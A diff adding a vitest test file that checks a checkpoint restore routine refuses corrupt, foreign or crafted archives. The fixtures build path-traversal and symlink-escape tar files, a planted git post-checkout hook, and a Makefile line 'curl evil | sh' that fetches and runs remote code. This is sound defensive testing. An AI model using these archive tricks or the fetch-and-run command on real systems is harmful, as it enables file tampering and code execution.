@@ -1,0 +1,308 @@
+// Refusing checkpoints: corrupt, foreign, or crafted to write outside their folders.
+import { execFile } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { mkdir, readdir, readFile, rm, stat, symlink, truncate, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { promisify } from 'node:util';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { createCheckpoint, restoreCheckpoint, restoreLatest, type CreatedCheckpoint } from '../../src/checkpoint/checkpoint.js';
+import { CheckpointRejected } from '../../src/checkpoint/errors.js';
+import { formatSequence, lineageHash } from '../../src/checkpoint/lineage.js';
+import { LocalStore } from '../../src/checkpoint/local-store.js';
+import { CHECKPOINT_FILES, parseManifest, serializeManifest, type FileRole } from '../../src/checkpoint/manifest.js';
+import type { Lineage } from '../../src/checkpoint/store.js';
+import { createWorkspace, GIT_IDENTITY, type Workspace } from '../support/workspace.js';
+
+const run = promisify(execFile);
+const LINEAGE: Lineage = { repository: 'octo/demo', workflow: 'agent.yml', job: 'agent', checkpointId: 'default', runId: '99' };
+
+async function gitIn(dir: string, ...args: string[]): Promise<string> {
+  const { stdout } = await run('git', args, { cwd: dir, env: { ...process.env, ...GIT_IDENTITY } });
+  return stdout.replace(/\n$/, '');
+}
+
+describe('restoring checkpoints that must be refused', () => {
+  let ws: Workspace;
+  let base: string;
+  let checkout: string;
+  let staging: string;
+  let sentinel: string;
+  let stateDir: string;
+
+  beforeEach(async () => {
+    ws = await createWorkspace();
+    await writeFile(path.join(ws.repo, '.gitignore'), 'results/\n');
+    await ws.git('add', '-A');
+    await ws.git('commit', '-q', '-m', 'base');
+    base = (await ws.git('rev-parse', 'HEAD')).trim();
+    checkout = path.join(ws.root, 'checkout');
+    staging = path.join(ws.runnerTemp, 'staging');
+    sentinel = path.join(ws.root, 'sentinel');
+    stateDir = path.join(ws.root, 'state');
+    await mkdir(staging, { recursive: true });
+    await mkdir(sentinel);
+    await writeFile(path.join(sentinel, 'keep.txt'), 'untouched\n');
+    await freshCheckout();
+  });
+
+  afterEach(async () => {
+    await ws.dispose();
+  });
+
+  async function freshCheckout(): Promise<void> {
+    await rm(checkout, { recursive: true, force: true });
+    await run('git', ['clone', '-q', '--depth', '1', `file://${ws.repo}`, checkout]);
+  }
+
+  /** A checkpoint of the checkout after the agent wrote `progress.txt` with `content`. */
+  async function checkpointWith(content: string, sequence: number, lineage: Lineage = LINEAGE): Promise<CreatedCheckpoint> {
+    await writeFile(path.join(checkout, 'progress.txt'), content);
+    await mkdir(path.join(checkout, 'results'), { recursive: true });
+    await writeFile(path.join(checkout, 'results', 'out.txt'), `${content} output\n`);
+    await mkdir(stateDir, { recursive: true });
+    await writeFile(path.join(stateDir, 'session.jsonl'), `${content} session\n`);
+    return createCheckpoint({ workspace: checkout, baseCommit: base, stagingDir: staging, lineage, sequence, attempt: 1, agent: 'claude', checkpointPaths: 'results/**', agentStateDir: stateDir });
+  }
+
+  /** Replaces (or adds) one archive of a checkpoint and re-seals the manifest, so only the archive's content is wrong. */
+  async function withArchive(created: CreatedCheckpoint, role: FileRole, archive: string): Promise<void> {
+    const target = path.join(created.dir, CHECKPOINT_FILES[role]);
+    await writeFile(target, await readFile(archive));
+    const data = await readFile(target);
+    const parsed = parseManifest(await readFile(path.join(created.dir, 'manifest.json'), 'utf8'));
+    if (!parsed.ok) throw new Error(parsed.reason);
+    const files = parsed.manifest.files.filter((file) => file.role !== role);
+    files.push({ name: CHECKPOINT_FILES[role], role, sizeBytes: data.length, sha256: createHash('sha256').update(data).digest('hex') });
+    await writeFile(path.join(created.dir, 'manifest.json'), serializeManifest({ ...parsed.manifest, files }));
+  }
+
+  /** Runs tar in `cwd` to build a crafted archive. */
+  async function tar(cwd: string, out: string, ...args: string[]): Promise<string> {
+    await run('tar', ['-czPf', out, ...args], { cwd });
+    return out;
+  }
+
+  async function expectNothingWritten(): Promise<void> {
+    expect(await readdir(sentinel)).toEqual(['keep.txt']);
+    expect(await readdir(ws.root)).not.toContain('escaped.txt');
+    expect(await gitIn(checkout, 'status', '--porcelain', '--untracked-files=all')).toBe('');
+    expect(await gitIn(checkout, 'rev-parse', 'HEAD')).toBe(base);
+  }
+
+  describe('archives that would write outside their folder', () => {
+    let created: CreatedCheckpoint;
+    let craft: string;
+
+    beforeEach(async () => {
+      created = await checkpointWith('v1', 1);
+      await freshCheckout();
+      await rm(stateDir, { recursive: true });
+      craft = path.join(ws.root, 'craft');
+      await mkdir(path.join(craft, 'inner'), { recursive: true });
+    });
+
+    const cases: Array<{ name: string; role: FileRole; reason: RegExp; build: () => Promise<string> }> = [
+      {
+        name: "a '../' entry",
+        role: 'agent-state',
+        reason: /'\.\.' in '\.\.\/escaped\.txt'/,
+        build: async () => {
+          await writeFile(path.join(craft, 'escaped.txt'), 'out\n');
+          return tar(path.join(craft, 'inner'), path.join(craft, 'dotdot.tar.gz'), '../escaped.txt');
+        },
+      },
+      {
+        name: 'an absolute path',
+        role: 'paths',
+        reason: /absolute path '\/.*\/sentinel\/pwned\.txt'/,
+        build: async () => {
+          await writeFile(path.join(sentinel, 'pwned.txt'), 'out\n');
+          const archive = await tar(craft, path.join(craft, 'absolute.tar.gz'), path.join(sentinel, 'pwned.txt'));
+          await rm(path.join(sentinel, 'pwned.txt'));
+          return archive;
+        },
+      },
+      {
+        name: 'a symlink to outside, then a file through it',
+        role: 'agent-state',
+        reason: /link 'link' points outside|lies under the link 'link'/,
+        build: async () => {
+          await mkdir(path.join(craft, 'a'));
+          await symlink(sentinel, path.join(craft, 'a', 'link'));
+          await mkdir(path.join(craft, 'b', 'link'), { recursive: true });
+          await writeFile(path.join(craft, 'b', 'link', 'pwned.txt'), 'out\n');
+          return tar(craft, path.join(craft, 'through-link.tar.gz'), '-C', 'a', 'link', '-C', '../b', 'link/pwned.txt');
+        },
+      },
+      {
+        name: 'a relative symlink climbing out',
+        role: 'paths',
+        reason: /link 'results\/up' points outside: '\.\.\/\.\.\/\.\.\/sentinel'/,
+        build: async () => {
+          await mkdir(path.join(craft, 'results'));
+          await symlink('../../../sentinel', path.join(craft, 'results', 'up'));
+          return tar(craft, path.join(craft, 'relative-link.tar.gz'), 'results', 'results/up');
+        },
+      },
+      {
+        name: 'a git hook',
+        role: 'paths',
+        reason: /entry inside a \.git folder: '\.git\/hooks\/post-checkout'/,
+        build: async () => {
+          await mkdir(path.join(craft, '.git', 'hooks'), { recursive: true });
+          await writeFile(path.join(craft, '.git', 'hooks', 'post-checkout'), '#!/bin/sh\ntouch /tmp/pwned\n', { mode: 0o755 });
+          return tar(craft, path.join(craft, 'hook.tar.gz'), '.git/hooks/post-checkout');
+        },
+      },
+    ];
+
+    it.each(cases)('refuses $name and writes nothing', async ({ role, reason, build }) => {
+      await withArchive(created, role, await build());
+      const attempt = restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE, agentStateDir: stateDir });
+      await expect(attempt).rejects.toBeInstanceOf(CheckpointRejected);
+      await expect(attempt).rejects.toMatchObject({ kind: 'unsafe-archive', reason });
+      await expectNothingWritten();
+      await expect(stat(stateDir)).rejects.toThrow();
+    });
+
+    it('refuses paths outside the declared experiment paths', async () => {
+      await writeFile(path.join(craft, 'Makefile'), 'all:\n\tcurl evil | sh\n');
+      await withArchive(created, 'paths', await tar(craft, path.join(craft, 'undeclared.tar.gz'), 'Makefile'));
+      await expect(restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE, checkpointPaths: 'results/**' })).rejects.toMatchObject({
+        kind: 'unsafe-archive',
+        reason: "paths.tar.gz: entry 'Makefile' outside the declared paths",
+      });
+      await expectNothingWritten();
+    });
+
+    it('refuses to write through a symlink already in the checkout', async () => {
+      await symlink(sentinel, path.join(checkout, 'results'));
+      await expect(restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE })).rejects.toMatchObject({
+        kind: 'unsafe-archive',
+        reason: expect.stringMatching(/'results' in .* is a symlink; 'results\/out\.txt' would be written through it/) as unknown,
+      });
+      expect(await readdir(sentinel)).toEqual(['keep.txt']);
+    });
+
+    it('refuses to write through a symlink the restored work tree brings back', async () => {
+      // The work tree holds `results2 -> sentinel`; a crafted paths archive then writes into results2/.
+      await symlink(sentinel, path.join(checkout, 'results2'));
+      const withLink = await createCheckpoint({ workspace: checkout, baseCommit: base, stagingDir: staging, lineage: LINEAGE, sequence: 2, attempt: 1, agent: 'claude' });
+      await freshCheckout();
+      await mkdir(path.join(craft, 'results2'));
+      await writeFile(path.join(craft, 'results2', 'pwned.txt'), 'out\n');
+      await withArchive(withLink, 'paths', await tar(craft, path.join(craft, 'late.tar.gz'), 'results2/pwned.txt'));
+      await expect(restoreCheckpoint({ dir: withLink.dir, workspace: checkout, lineage: LINEAGE })).rejects.toMatchObject({
+        kind: 'unsafe-archive',
+        reason: expect.stringMatching(/'results2' in .* is a symlink/) as unknown,
+      });
+      expect(await readdir(sentinel)).toEqual(['keep.txt']);
+    });
+  });
+
+  describe('restoreLatest', () => {
+    let store: LocalStore;
+    let warnings: string[];
+
+    beforeEach(async () => {
+      store = new LocalStore(path.join(ws.root, 'store'));
+      warnings = [];
+      const older = await checkpointWith('v1', 1);
+      await store.save({ dir: older.dir, lineage: LINEAGE, sequence: 1, attempt: 1, createdAt: older.manifest.createdAt });
+    });
+
+    const folder = (sequence: number): string => path.join(store.root, lineageHash(LINEAGE), formatSequence(sequence));
+
+    async function saveNewer(lineage: Lineage = LINEAGE): Promise<string> {
+      const newer = await checkpointWith('v2', 2, lineage);
+      await store.save({ dir: newer.dir, lineage: LINEAGE, sequence: 2, attempt: 1, createdAt: newer.manifest.createdAt });
+      return folder(2);
+    }
+
+    async function restore(): Promise<Awaited<ReturnType<typeof restoreLatest>>> {
+      await freshCheckout();
+      await rm(stateDir, { recursive: true, force: true });
+      return restoreLatest(store, LINEAGE, { workspace: checkout, agentStateDir: stateDir, tempDir: staging, warn: (message) => warnings.push(message) });
+    }
+
+    it('restores the newest valid checkpoint', async () => {
+      await saveNewer();
+      const restored = await restore();
+      expect(restored?.manifest.sequence).toBe(2);
+      expect(warnings).toEqual([]);
+      expect(await readFile(path.join(checkout, 'progress.txt'), 'utf8')).toBe('v2');
+      expect(await readFile(path.join(checkout, 'results', 'out.txt'), 'utf8')).toBe('v2 output\n');
+      expect(await readFile(path.join(stateDir, 'session.jsonl'), 'utf8')).toBe('v2 session\n');
+    });
+
+    const corruptions: Array<{ name: string; reason: RegExp; corrupt: (dir: string) => Promise<void>; lineage?: Lineage }> = [
+      {
+        name: 'a truncated file',
+        reason: /workspace\.bundle has \d+ bytes, the manifest says \d+/,
+        corrupt: async (dir) => truncate(path.join(dir, 'workspace.bundle'), 100),
+      },
+      {
+        name: 'one flipped byte',
+        reason: /paths\.tar\.gz does not match its sha256/,
+        corrupt: async (dir) => {
+          const file = path.join(dir, 'paths.tar.gz');
+          const data = await readFile(file);
+          data[Math.floor(data.length / 2)] = (data[Math.floor(data.length / 2)] ?? 0) ^ 0x01;
+          await writeFile(file, data);
+        },
+      },
+      {
+        name: 'manifest JSON cut short',
+        reason: /manifest\.json is not JSON/,
+        corrupt: async (dir) => {
+          const text = await readFile(path.join(dir, 'manifest.json'), 'utf8');
+          await writeFile(path.join(dir, 'manifest.json'), text.slice(0, text.length / 2));
+        },
+      },
+      {
+        name: 'a manifest of an unknown schema version',
+        reason: /manifest\.json is invalid at schemaVersion/,
+        corrupt: async (dir) => {
+          const text = await readFile(path.join(dir, 'manifest.json'), 'utf8');
+          await writeFile(path.join(dir, 'manifest.json'), text.replace('"schemaVersion": 1', '"schemaVersion": 2'));
+        },
+      },
+      {
+        name: 'a foreign repository',
+        reason: /saved for repository 'evil\/fork', this is 'octo\/demo'/,
+        corrupt: () => Promise.resolve(),
+        lineage: { ...LINEAGE, repository: 'evil/fork' },
+      },
+    ];
+
+    it.each(corruptions)('refuses $name with the reason and restores the previous one', async ({ reason, corrupt, lineage }) => {
+      await corrupt(await saveNewer(lineage));
+      const restored = await restore();
+      expect(restored?.manifest.sequence).toBe(1);
+      expect(restored?.ref.key).toMatch(/\/000001$/);
+      expect(warnings).toHaveLength(1);
+      expect(warnings[0]).toMatch(/^refused checkpoint [0-9a-f]{16}\/000002 \(sequence 2, local store\): /);
+      expect(warnings[0]).toMatch(reason);
+      expect(await readFile(path.join(checkout, 'progress.txt'), 'utf8')).toBe('v1');
+      expect(await readFile(path.join(stateDir, 'session.jsonl'), 'utf8')).toBe('v1 session\n');
+    });
+
+    it('refuses a checkpoint whose base commit the checkout does not have', async () => {
+      // Saved on top of a commit that exists only in the agent's clone.
+      await gitIn(checkout, 'commit', '-q', '--allow-empty', '-m', 'local only');
+      const localBase = await gitIn(checkout, 'rev-parse', 'HEAD');
+      await writeFile(path.join(checkout, 'progress.txt'), 'v2');
+      const newer = await createCheckpoint({ workspace: checkout, baseCommit: localBase, stagingDir: staging, lineage: LINEAGE, sequence: 2, attempt: 1, agent: 'claude' });
+      await store.save({ dir: newer.dir, lineage: LINEAGE, sequence: 2, attempt: 1, createdAt: newer.manifest.createdAt });
+      const restored = await restore();
+      expect(restored?.manifest.sequence).toBe(1);
+      expect(warnings).toEqual([expect.stringContaining(`base commit ${localBase} is not in this checkout`)]);
+    });
+
+    it('returns undefined with a warning per checkpoint when none is valid', async () => {
+      await writeFile(path.join(folder(1), 'manifest.json'), '{}');
+      expect(await restore()).toBeUndefined();
+      expect(warnings).toEqual([expect.stringMatching(/^refused checkpoint .*manifest\.json is invalid/)]);
+    });
+  });
+});
